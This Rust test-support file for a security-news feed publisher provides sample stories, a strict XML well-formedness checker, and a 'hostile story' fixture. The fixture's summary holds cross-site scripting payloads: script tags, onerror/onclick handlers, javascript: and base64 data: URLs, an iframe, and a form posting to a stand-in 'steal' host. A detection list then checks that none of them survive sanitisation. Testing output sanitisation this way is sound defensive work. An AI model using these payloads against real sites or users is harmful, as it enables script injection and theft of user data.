//! Test data and checks shared by the publishing tests: a sample channel and stories, a
//! hostile story, and a strict XML well-formedness check.
//!
//! Compiled for tests only; nothing here may be used by the renderers themselves.

use quick_xml::NsReader;
use quick_xml::events::Event;
use quick_xml::name::ResolveResult;
use url::Url;

use super::html_text::is_xml_char;
use crate::model::{Channel, Source, Story, StoryId, Timestamp};

pub(super) fn url(text: &str) -> Url {
    Url::parse(text).expect("test URL")
}

pub(super) fn time(text: &str) -> Timestamp {
    Timestamp::parse_rfc3339(text).expect("test time")
}

pub(super) fn sample_channel() -> Channel {
    Channel {
        title: "Security front page".to_owned(),
        link: url("https://front.example.org/"),
        description: "The security news that matters".to_owned(),
        self_url: url("https://front.example.org/feed.rss"),
        updated: time("2026-11-28T13:00:00Z"),
    }
}

fn krebs(entry_link: Option<&str>) -> Source {
    Source {
        feed_name: "Krebs on Security".to_owned(),
        feed_url: url("https://krebsonsecurity.com/feed/"),
        site_link: Some(url("https://krebsonsecurity.com/")),
        entry_link: entry_link.map(url),
    }
}

fn bleeping(entry_link: Option<&str>) -> Source {
    Source {
        feed_name: "BleepingComputer".to_owned(),
        feed_url: url("https://www.bleepingcomputer.com/feed/"),
        site_link: Some(url("https://www.bleepingcomputer.com/")),
        entry_link: entry_link.map(url),
    }
}

/// Three stories: a full one with two sources, one without author and with a relative link in
/// its summary, and one with neither link, summary nor author.
pub(super) fn sample_stories() -> Vec<Story> {
    vec![
        Story {
            id: StoryId(101),
            title: "Big breach at Example Corp".to_owned(),
            link: Some(url("https://news.example.com/2026/big-breach")),
            summary: Some("<p>A <b>big</b> breach.</p>".to_owned()),
            author: Some("Brian Krebs".to_owned()),
            published: time("2026-11-28T09:00:00Z"),
            updated: time("2026-11-28T10:00:00Z"),
            comments: Some(url("https://news.ycombinator.com/item?id=1")),
            categories: vec!["breach".to_owned(), "security".to_owned()],
            sources: vec![
                krebs(Some("https://news.example.com/2026/big-breach")),
                bleeping(Some("https://www.bleepingcomputer.com/news/big-breach")),
            ],
            members: Vec::new(),
        },
        Story {
            id: StoryId(102),
            title: "Patch Tuesday & friends".to_owned(),
            link: Some(url("https://blog.example.net/2026/11/patch-tuesday")),
            summary: Some("See <a href=\"/x\">details</a>.".to_owned()),
            author: None,
            published: time("2026-11-27T22:30:00Z"),
            updated: time("2026-11-27T22:30:00Z"),
            comments: None,
            categories: vec!["windows".to_owned()],
            sources: vec![bleeping(Some(
                "https://www.bleepingcomputer.com/news/patch-tuesday",
            ))],
            members: Vec::new(),
        },
        Story {
            id: StoryId(103),
            title: "Telegram bug".to_owned(),
            link: None,
            summary: None,
            author: None,
            published: time("2026-11-26T08:00:00Z"),
            updated: time("2026-11-26T08:00:00Z"),
            comments: None,
            categories: Vec::new(),
            sources: vec![Source {
                feed_name: "Kaspersky Daily".to_owned(),
                feed_url: url("https://www.kaspersky.com/blog/feed/"),
                site_link: None,
                entry_link: None,
            }],
            members: Vec::new(),
        },
    ]
}

/// A story whose every field tries to break the feed or its readers.
pub(super) fn hostile_story() -> Story {
    Story {
        id: StoryId(666),
        title: "Evil\u{0} title\u{1b} \u{fffe}& <b>more</b>".to_owned(),
        link: Some(url("https://evil.example/post")),
        summary: Some(
            concat!(
                "<p>Hello\u{0} \u{1b}world\u{fffe}\u{ffff}</p>",
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<a href=\"javascript:alert(1)\">click</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">click2</a>",
                "<iframe src=\"https://evil.example/frame\">framed</iframe>",
                "<style>body{display:none}</style>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">d</a>",
                "<img src=\"data:image/png;base64,AAAA\">",
                "<form action=\"https://evil.example/steal\"><input name=q></form>",
                "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
                "<p onclick=\"alert(1)\">]]> end</p>",
                "<![CDATA[ cdata ]]>",
            )
            .to_owned(),
        ),
        author: Some("Mal\u{1b}lory\u{0}".to_owned()),
        published: time("2026-11-28T12:00:00Z"),
        updated: time("2026-11-28T12:00:00Z"),
        comments: None,
        categories: vec!["x\u{0}y".to_owned(), "\u{1b}".to_owned()],
        sources: vec![Source {
            feed_name: "Evil\u{0} <feed>".to_owned(),
            feed_url: url("https://evil.example/feed"),
            site_link: None,
            entry_link: None,
        }],
        members: Vec::new(),
    }
}

/// How often `needle` occurs in `haystack`.
pub(super) fn count(haystack: &str, needle: &str) -> usize {
    haystack.matches(needle).count()
}

/// The document as UTF-8 text, after checking it strictly: valid UTF-8, only XML 1.0
/// characters, every event readable, end tags matching, namespace prefixes bound, attributes
/// unique and unescapable, references predefined or to allowed characters, one root element.
pub(super) fn assert_well_formed(bytes: &[u8]) -> String {
    walk(bytes).0
}

/// All text the document carries once XML escaping is undone: text, CDATA and attribute values,
/// each followed by a newline. What a feed reader would hand to its HTML renderer.
pub(super) fn decoded_text(bytes: &[u8]) -> String {
    walk(bytes).1
}

fn walk(bytes: &[u8]) -> (String, String) {
    let xml = std::str::from_utf8(bytes)
        .expect("output is valid UTF-8")
        .to_owned();
    if let Some(bad) = xml.chars().find(|&character| !is_xml_char(character)) {
        panic!("character {bad:?} is not allowed in XML 1.0: {xml}");
    }
    let mut reader = NsReader::from_reader(bytes);
    reader.config_mut().check_comments = true;
    let mut buf = Vec::new();
    let mut text = String::new();
    let mut depth = 0_usize;
    let mut roots = 0_usize;
    loop {
        let (resolved, event) = match reader.read_resolved_event_into(&mut buf) {
            Ok(resolved_event) => resolved_event,
            Err(error) => panic!(
                "not well-formed at byte {}: {error}\n{xml}",
                reader.buffer_position()
            ),
        };
        if let ResolveResult::Unknown(prefix) = &resolved {
            panic!(
                "unbound namespace prefix {:?}\n{xml}",
                String::from_utf8_lossy(prefix)
            );
        }
        match event {
            Event::Start(ref element) | Event::Empty(ref element) => {
                if depth == 0 {
                    roots += 1;
                }
                for attribute in element.attributes() {
                    let attribute = attribute.expect("well-formed attribute");
                    let key = attribute.key;
                    let (resolved_key, _) = reader.resolve_attribute(key);
                    if let ResolveResult::Unknown(prefix) = resolved_key
                        && !key.as_ref().starts_with(b"xmlns")
                    {
                        panic!(
                            "unbound attribute prefix {:?}\n{xml}",
                            String::from_utf8_lossy(&prefix)
                        );
                    }
                    text.push_str(&attribute.unescape_value().expect("attribute value"));
                    text.push('\n');
                }
                if matches!(event, Event::Start(_)) {
                    depth += 1;
                }
            }
            Event::End(_) => depth -= 1,
            Event::Text(ref content) => {
                let content = content.xml10_content().expect("text");
                assert!(
                    depth > 0 || content.trim().is_empty(),
                    "text outside the root element: {content:?}"
                );
                text.push_str(&content);
            }
            Event::CData(ref content) => {
                assert!(depth > 0, "CDATA outside the root element");
                text.push_str(&content.decode().expect("CDATA"));
            }
            Event::GeneralRef(ref reference) => {
                if reference.is_char_ref() {
                    let character = reference
                        .resolve_char_ref()
                        .expect("character reference")
                        .expect("character reference");
                    assert!(
                        is_xml_char(character),
                        "reference to forbidden character {character:?}"
                    );
                    text.push(character);
                } else {
                    let name = reference.decode().expect("reference name");
                    let character = match name.as_ref() {
                        "lt" => '<',
                        "gt" => '>',
                        "amp" => '&',
                        "apos" => '\'',
                        "quot" => '"',
                        other => panic!("undefined entity &{other};\n{xml}"),
                    };
                    text.push(character);
                }
            }
            Event::DocType(_) => panic!("a published feed has no DOCTYPE"),
            Event::Eof => break,
            Event::Decl(_) | Event::PI(_) | Event::Comment(_) => {}
        }
        buf.clear();
    }
    assert_eq!(depth, 0, "unclosed elements\n{xml}");
    assert_eq!(roots, 1, "exactly one root element\n{xml}");
    (xml, text)
}

/// Asserts that nothing of [`hostile_story`]'s attack survives in `bytes`, neither in the raw
/// XML nor in the text a reader decodes from it.
pub(super) fn assert_nothing_hostile(bytes: &[u8]) {
    let xml = assert_well_formed(bytes);
    let decoded = decoded_text(bytes).to_lowercase();
    for needle in [
        "<script",
        "alert(",
        "onerror",
        "onclick",
        "javascript:",
        "<iframe",
        "framed",
        "<style",
        "display:none",
        "data:",
        "<form",
        "<input",
        "<object",
        "<embed",
        "]]>",
        "\u{0}",
        "\u{1b}",
        "\u{fffe}",
        "\u{ffff}",
    ] {
        assert!(
            !decoded.contains(needle),
            "{needle:?} survived in the decoded text:\n{decoded}"
        );
        if needle != "]]>" {
            assert!(
                !xml.to_lowercase().contains(needle),
                "{needle:?} survived in the XML:\n{xml}"
            );
        }
    }
    assert!(decoded.contains("hello world"), "{decoded}");
    assert!(decoded.contains("evil title"), "{decoded}");
    assert!(decoded.contains("mal lory"), "{decoded}");
}
